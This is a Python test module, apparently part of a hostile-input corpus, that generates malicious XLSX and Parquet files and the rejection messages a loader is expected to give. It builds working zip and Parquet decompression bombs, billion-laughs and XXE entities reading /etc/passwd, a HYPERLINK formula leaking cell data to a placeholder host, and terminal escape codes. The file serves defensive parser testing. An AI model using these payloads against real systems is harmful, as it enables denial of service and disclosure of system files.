"""Tables that are packed: XLSX workbooks and Parquet files."""

from __future__ import annotations

import datetime as dt
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any

from tests.hostile.corpus.case import READ, Case

__all__ = ["CASES", "cells", "parquet", "workbook"]

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"
HEAD = ("record_id", "unit_id", "A1", "A2", "comment")
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
OUTSIDE = '<!DOCTYPE l [<!ENTITY j SYSTEM "file:///etc/passwd">]>'
PARTS = {
    "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{TYPES}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{TYPES}.worksheet+xml"/>'
    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{TYPES}.sharedStrings+xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
    f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{NS}" xmlns:r="{OFFICE}"><sheets>'
    '<sheet name="data" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
    f'<Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="r2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>",
    "xl/sharedStrings.xml": f'<sst xmlns="{NS}"><si><t>shared</t></si></sst>',
}  # fmt: skip


def workbook(parts: Mapping[str, str | bytes], *, level: int = 9) -> bytes:
    """A workbook of the usual parts, some of them replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in {**PARTS, **parts}.items():
            info = zipfile.ZipInfo(name, (2026, 7, 31, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return out.getvalue()


def cells(*rows: str, head: str = "") -> Callable[[], bytes]:
    """A workbook whose only sheet has these rows as XML below the contract's header."""
    names = "".join(_text(f"{'ABCDE'[i]}1", name) for i, name in enumerate(HEAD))
    body = f'<row r="1">{names}</row>' + "".join(rows)
    text = f'{head}<worksheet xmlns="{NS}"><sheetData>{body}</sheetData></worksheet>'
    return lambda: workbook({"xl/worksheets/sheet1.xml": text})


def _text(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def _row(number: int | str, *more: str) -> str:
    return (
        f'<row r="{number}">{_text(f"A{number}", f"r{number}")}{_text(f"B{number}", "u1")}'
        f'<c r="C{number}"><v>5</v></c><c r="D{number}"><v>4</v></c>{"".join(more)}</row>'
    )


def _bomb(size: int) -> bytes:
    text = f'<worksheet xmlns="{NS}"><sheetData>'.encode() + b" " * size
    return workbook({"xl/worksheets/sheet1.xml": text})


def _lying() -> bytes:
    """A part that unpacks to more than the directory says."""
    data = bytearray(_bomb(40 << 20))
    # the directory's entry, and the local header's
    for mark, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (start := data.find(mark, start)) >= 0:
            name = data[start + (46 if at == 24 else 30) :][:24]
            if name == b"xl/worksheets/sheet1.xml":
                struct.pack_into("<I", data, start + at, 100)
            start += 4
    return bytes(data)


def _overlapping() -> bytes:
    """Every entry of the directory names the same bytes (after D. Fifield, 2019)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"<a>" + b" " * (30 << 20)) + packer.flush()
    name = b"xl/worksheets/sheet1.xml"
    crc = zlib.crc32(b"<a>" + b" " * (30 << 20))
    sizes = (crc, len(packed), 3 + (30 << 20))
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, *sizes, len(name), 0)
    whole = local + name + packed + bytes(2 << 20)  # so that the ratio looks harmless
    directory = b""
    for number in range(20):
        each = f"xl/worksheets/sheet{number:02}.xml".encode()
        entry = (b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *sizes, len(each), 0, 0, 0, 0, 0, 0)
        directory += struct.pack("<4sHHHHHHIIIHHHHHII", *entry) + each
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 20, 20, len(directory), len(whole), 0)
    return whole + directory + end


def _nested() -> bytes:
    inner = _bomb(30 << 20)
    for _ in range(3):
        inner = workbook({f"xl/worksheets/sheet{i}.zip": inner for i in range(10)})
    return inner


def _many_parts() -> bytes:
    return workbook({f"xl/media/{i}.xml": "<a/>" for i in range(20_000)}, level=1)


def _twice() -> bytes:
    out = io.BytesIO()
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as archive:
        warnings.simplefilter("ignore")
        for name, content in {**PARTS}.items():
            archive.writestr(name, content)
        for text in ("one", "two"):
            archive.writestr("xl/worksheets/sheet1.xml", text)
    return out.getvalue()


def parquet(columns: Mapping[str, Any], **options: Any) -> bytes:
    """A Parquet file of these columns."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = io.BytesIO()
    pq.write_table(pa.table(dict(columns)), out, **options)
    return out.getvalue()


def _ids(count: int) -> dict[str, Any]:
    import pyarrow as pa

    return {
        "record_id": pa.array([f"r{i}" for i in range(count)]),
        "unit_id": pa.array(["u1"] * count),
        "A1": pa.array([5] * count),
        "A2": pa.array([4] * count),
    }


def _giant_group() -> bytes:
    """Three hundred million rows of one value in one group: a few kilobytes."""
    import pyarrow as pa

    column = pa.array([5] * 1_000_000, pa.int8())
    out = io.BytesIO()
    import pyarrow.parquet as pq

    schema = pa.schema({"record_id": pa.int8()})
    with pq.ParquetWriter(out, schema, compression="zstd") as writer:
        writer.write_table(
            pa.table({"record_id": pa.chunked_array([column] * 300)}), row_group_size=300_000_000
        )
    return out.getvalue()


def _giant_dictionary() -> bytes:
    """One word of four megabytes in fifty thousand rows: 200 GB once it is spelled out."""
    import pyarrow as pa

    rows = 50_000
    words = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), ["w" * (4 << 20)])
    return parquet({**_ids(rows), "comment": words}, compression="zstd")


def _many_groups() -> bytes:
    return parquet(_ids(30_000), row_group_size=1)


def _odd_kinds() -> bytes:
    import pyarrow as pa

    return parquet(
        {
            **_ids(2),
            "comment": pa.array([b"\xff\xfe", None], pa.binary()),
            "submitted_at": pa.array([2**62, -(2**62)], pa.timestamp("ns")),
            "started_at": pa.array([2**62, 0], pa.timestamp("us")),
            "serial": pa.array([[1, 2], None], pa.list_(pa.int64())),
            "batch": pa.array([dt.time(1, 2), None]),
            "device": pa.array([dt.timedelta(days=1), None]),
        }
    )


def _nested_lists(depth: int) -> bytes:
    import pyarrow as pa

    value: Any = 1
    kind = pa.int64()
    for _ in range(depth):
        value, kind = [value], pa.list_(kind)
    return parquet({**_ids(1), "comment": pa.array([value], kind)})


def _damaged(at: int, new: bytes) -> Callable[[], bytes]:
    def make() -> bytes:
        data = bytearray(parquet(_ids(500)))
        data[at : at + len(new)] = new
        return bytes(data)

    return make


def _shared_bomb() -> bytes:
    """A shared text of a megabyte, used a thousand times: no more than a megabyte is kept."""
    shared = f'<sst xmlns="{NS}"><si><t>{"s" * (1 << 20)}</t></si></sst>'
    rows = "".join(_row(n, f'<c r="E{n}" t="s"><v>0</v></c>') for n in range(2, 1_000))
    names = "".join(_text(f"{'ABCDE'[i]}1", name) for i, name in enumerate(HEAD))
    sheet = (
        f'<worksheet xmlns="{NS}"><sheetData><row r="1">{names}</row>{rows}</sheetData></worksheet>'
    )
    return workbook({"xl/worksheets/sheet1.xml": sheet, "xl/sharedStrings.xml": shared}, level=1)


CASES = (
    Case("bomb.xlsx", "responses", lambda: _bomb(400 << 20), says=("unpacks",)),
    Case("lying_size.xlsx", "responses", _lying, says=("damaged",)),
    Case("overlapping.xlsx", "responses", _overlapping, says=("overlap",)),
    Case("zip_in_zip.xlsx", "responses", _nested),
    Case("many_parts.xlsx", "responses", _many_parts, says=("parts",)),
    Case("parts_twice.xlsx", "responses", _twice, says=("overlap",)),
    Case("no_workbook.xlsx", "responses", lambda: workbook({"xl/workbook.xml": "<x/>"})),
    Case("laughs_in_sheet.xlsx", "responses",
         cells(_row(2, _text("E2", "&j;")), head=LAUGHS), says=("document type",)),
    Case("laughs_in_strings.xlsx", "responses",
         lambda: workbook({"xl/sharedStrings.xml":
                           f'{LAUGHS}<sst xmlns="{NS}"><si><t>&j;</t></si></sst>',
                           "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{NS}"/>'}),
         says=("document type",)),
    Case("outside_in_sheet.xlsx", "responses",
         cells(_row(2, _text("E2", "&j;")), head=OUTSIDE), says=("document type",)),
    Case("outside_in_workbook.xlsx", "responses",
         lambda: workbook({"xl/workbook.xml": OUTSIDE + PARTS["xl/workbook.xml"]}),
         says=("document type",)),
    Case("outside_utf16.xlsx", "responses",
         lambda: workbook({"xl/workbook.xml": (OUTSIDE + PARTS["xl/workbook.xml"]).encode("utf-16"),
                           "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{NS}"/>'})),
    Case("row_of_billions.xlsx", "responses",
         cells(_row(2), '<row r="4000000000"><c r="A4000000000"><v>1</v></c></row>'),
         says=("outside of any sheet",)),
    Case("row_negative.xlsx", "responses",
         cells(_row(2), '<row r="-5"><c r="A-5"><v>1</v></c></row>'), None),
    Case("row_no_number.xlsx", "responses", cells('<row r="x"><c r="A1"><v>1</v></c></row>')),
    Case("column_far_out.xlsx", "responses", cells(_row(2, '<c r="ZZZ2"><v>1</v></c>')),
         says=("outside of any sheet",)),
    Case("wide_and_long.xlsx", "responses",
         cells(*(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(2, 30_000))),
         says=("million cells",)),
    Case("shared_out_of_range.xlsx", "responses", cells(_row(2, '<c r="E2" t="s"><v>99</v></c>'))),
    Case("dates_out_of_range.xlsx", "responses",
         cells(_row(2, '<c r="E2" t="d"><v>99999-99-99</v></c>')), None),
    Case("number_no_number.xlsx", "responses",
         cells(_row(2, '<c r="E2"><v>1e999999</v></c>')), None),
    Case("formulas.xlsx", "responses",
         cells(_row(2, '<c r="E2"><f>HYPERLINK("http://x/"&amp;A2)</f></c>')), READ, ("formula",)),
    Case("shared_text.xlsx", "responses", _shared_bomb, READ, ("1048576 characters", "(998,")),
    Case("deep_xml.xlsx", "responses",
         cells('<row r="2"><c r="A2" t="inlineStr">' + "<is>" * 100_000 + "</is>" * 100_000
               + "</c></row>"), None),
    Case("control.xlsx", "responses", cells(_row(2, _text("E2", "&#27;[2J"))), None),
    Case("giant_group.parquet", "responses", _giant_group, says=("rows",)),
    Case("giant_dictionary.parquet", "responses", _giant_dictionary, None),
    Case("many_groups.parquet", "responses", _many_groups, READ, ("(30000,",)),
    Case("million_columns.parquet", "responses",
         lambda: parquet({f"c{i}": [1] for i in range(20_000)}), says=("columns",)),
    Case("odd_kinds.parquet", "responses", _odd_kinds, None),
    Case("nested.parquet", "responses", lambda: _nested_lists(60), None),
    Case("same_name.parquet", "responses",
         lambda: parquet({"record_id": ["a"], "unit_id": ["u1"], "A1": [5], "A1 ": [4], "A2": [1]}),
         says=("two columns",)),
    Case("cut.parquet", "responses", lambda: parquet(_ids(500))[:-9], says=("damaged",)),
    Case("footer_of_gigabytes.parquet", "responses",
         lambda: parquet(_ids(5))[:-8] + b"\xff\xff\xff\x7fPAR1", says=("damaged",)),
    Case("page_overwritten.parquet", "responses", _damaged(8, b"\xff" * 400), says=("damaged",)),
    Case("only_head.parquet", "responses", lambda: b"PAR1", says=("damaged",)),
)  # fmt: skip
